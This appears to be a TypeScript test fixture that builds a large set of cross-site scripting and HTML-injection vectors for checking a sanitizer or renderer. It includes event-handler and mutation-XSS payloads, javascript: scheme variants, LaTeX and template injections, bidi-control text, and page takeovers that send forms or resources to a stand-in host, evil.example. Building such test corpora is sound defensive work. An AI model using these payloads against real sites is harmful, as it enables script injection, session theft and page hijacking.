/** What a script that ran would call: the test puts it into every page. */
const RUN = '__hit(1)';
/** Nobody's site: a page that asks it for something has been made to. */
const AWAY = 'https://evil.example/x';

const EVENTS = 'onerror onload onfocus onmouseover ontoggle'.split(' ');
const TAGS =
  'img svg body video audio iframe object embed input details math marquee style link form button template a p table select textarea'.split(
    ' ',
  );
/** Each tag with an attribute that runs, as people and filters write it. */
const handlers = TAGS.flatMap((tag) =>
  EVENTS.map((event) => `<${tag} ${event}="${RUN}" src=x href=x autofocus tabindex=0>x</${tag}>`),
);

const classic = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC="${AWAY}.js"></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus="${RUN}`,
  `' onmouseover='${RUN}`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src="x" onerror="${RUN}"//`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"/><a><text y=20>x</text></a></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math href="javascript:${RUN}"><mi>x</mi></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${AWAY}">`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x">`,
  `<video poster="${AWAY}.png"><source src="${AWAY}.mp4"></video>`,
  `<p title=x style=x:expression(${RUN})>x</p>`,
  `<input type=image src=x onerror=${RUN}>`,
  `<a href=x ping="${AWAY}">x</a>`,
  `<link rel=preload as=script href="${AWAY}.js">`,
  `<style>@import "${AWAY}.css"</style>`,
];

/** What would not run, and yet take the page over. */
const takeovers = [
  `<base href="${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<form action="${AWAY}"><button>Post</button></form>`,
  `</form><form id=write action="${AWAY}"><input name=csrf></form>`,
  '<input name=csrf form=write value=x>',
  `<button form=write formaction="${AWAY}">Post</button>`,
  '<a id=location name=location href=x>x</a>',
  '<a id=defaultView><a id=defaultView name=x href=x>',
  '<img name=querySelector><form name=forms><input name=submit></form>',
  '<p id=text>x</p><p id=said-0>x</p><p id=list>x</p>',
  '<div id=write style="position:fixed;inset:0;z-index:99999">x</div>',
  '<style>body{display:none}</style>',
  `<p style="position:fixed;inset:0;background:url(${AWAY}.png)">x</p>`,
  '<p style="margin:-500px 0 0 -500px">x</p>',
  '<p class="looking notice btn own-tab unseen">x</p>',
  '<div style="width:99999px;height:99999px">wide</div>',
  `<table width=99999 background="${AWAY}.png"><tr><td width=99999 height=99999>wide</td></tr></table>`,
  `<table><tr>${`<td>${'W'.repeat(40)}</td>`.repeat(12)}</tr></table>`,
  `<pre>${'W'.repeat(400)}</pre>`,
  '<marquee width=9999>x</marquee>',
  '<dialog open>x</dialog>',
  '<p popover id=p>x</p>',
  '<p contenteditable accesskey=n>x</p>',
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `</div></article></main><h1>Another page</h1>`,
];

/** Harmless as it is read, and something else once it was written and read again. */
const mutated = [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=1>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form></mtext></math></form>`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<svg><desc><noembed></desc><img src=x onerror=${RUN}></noembed></svg>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<a href="x" title="&quot;><img src=x onerror=${RUN}>">x</a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<p title="<!--"><img src=x onerror=${RUN}><p title="-->">`,
  `<plaintext><img src=x onerror=${RUN}>`,
];

const SCHEMES = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java&#10;script:', '&#106;avascript:'],
  ...['javascript&colon;', '\u0001javascript:', '\u00A0javascript:', 'javascript\u200B:', 'ｊavascript:'],
  ...['vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHN2Zy9vbmxvYWQ9X19oaXQoMSk+', 'blob:'],
  ...['filesystem:', 'view-source:javascript:', 'feed:javascript:', 'file:///', 'intent:', '//evil.example/'],
  ...['javascript://example.org/%0A', 'http:javascript:', 'jar:javascript:', 'about:', 'mailto:x?body='],
];
const links = SCHEMES.map((scheme) => `<a href="${scheme}${RUN}">press</a>`);

export const FORMULAS: readonly string[] = [
  `\\href{javascript:${RUN}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\includegraphics{${AWAY}.png}`,
  '\\htmlData{onclick=x}{x}',
  '\\htmlStyle{position:fixed;inset:0}{x}',
  '\\htmlId{write}{x}',
  '\\htmlClass{looking}{x}',
  `\\text{</annotation><script>${RUN}</script>}`,
  `\\text{<img src=x onerror=${RUN}>}`,
  '\\rule{99999em}{99999em}',
  '\\rule{10em}{1em}'.repeat(20),
  '\\kern{99999em}x',
  '\\kern{-999em}x',
  '\\raisebox{999em}{x}',
  `${'\\raisebox{9em}{'.repeat(6)}up${'}'.repeat(6)}`,
  '\\hspace{-999em}x',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a}\\b\\b\\b\\b',
  `\\color{red;background:url(${AWAY})}x`,
  '\\colorbox{#fff}{\\Huge over}',
  '\\begin{matrix}'.repeat(40),
  '\\llap{a long text that would stand outside of its own place}',
  '\\smash{\\frac{\\frac{\\frac{a}{b}}{c}}{d}}',
  '"><script>1</script>',
];
const attributeOf = (latex: string) => latex.replaceAll('"', '&quot;').replaceAll('<', '&lt;');
const formulas = FORMULAS.map((latex) => `<p><span data-latex="${attributeOf(latex)}"></span></p>`);

/** Text that turns, piles up or never ends; the first sign tells it from what stands around it. */
export const RIGHT_TO_LEFT = '\u202Ereversed';
const POP_AND_TURN = '\u2069\u202Ereversed';
const ZALGO = `Z${'\u0335\u0321\u0489'.repeat(60)}algo`;
export const UNRULY: readonly string[] = [
  RIGHT_TO_LEFT,
  POP_AND_TURN,
  '\u2066\u2066\u2066unbalanced isolates',
  '\u202B\u202D\u202Eembedded',
  '\u0000\u0007\u001B[31mcontrol',
  ZALGO,
  'W'.repeat(1_500),
  '\u{1F468}\u200D'.repeat(50),
  'ﷺ'.repeat(100),
  '𒐫'.repeat(60),
];

/** For whatever puts texts together. */
const templates = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{#with "s"}}{{#with (lookup this 'constructor')}}${RUN}{{/with}}{{/with}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  '$t(tool.name) {{name}} {name}',
  "$& $` $' $1",
  `<span data-member='"><script>${RUN}</script>'>@x</span>`,
  `<blockquote data-post='1" onclick="${RUN}'><p>x</p></blockquote>`,
  `<img data-file='x" onerror="${RUN}' alt="x">`,
  '<blockquote data-post="1.1"><p>x</p></blockquote>',
  '<p class=MsoNormal style="mso-x:y"><o:p></o:p><![if !supportLists]>x<![endif]></p>',
  `<?xml:namespace prefix=o ns="${AWAY}"/><o:p onclick=${RUN}>x</o:p>`,
];

/** What runs or takes over, wherever HTML is read. */
export const MARKUP: readonly string[] = [...classic, ...takeovers, ...links, ...formulas, ...templates];
/** What would, and leaves its neighbours no chance: each stands alone. */
export const ALONE: readonly string[] = mutated;
export const HANDLERS: readonly string[] = handlers;
export const VECTORS: readonly string[] = [...MARKUP, ...ALONE, ...HANDLERS, ...UNRULY];

/** For what is one line, and not a long one. */
export const lines = (longest: number): string[] =>
  [...classic.slice(0, 12), ...templates.slice(0, 6), ...UNRULY].map((vector) => vector.slice(0, longest));

/** By what a title, a name or a reason is known on a page: short enough for any field, and all that is dangerous in one. */
export const NASTY = `"'><img src=x onerror=${RUN}><script>${RUN}</script>{{x}}`;
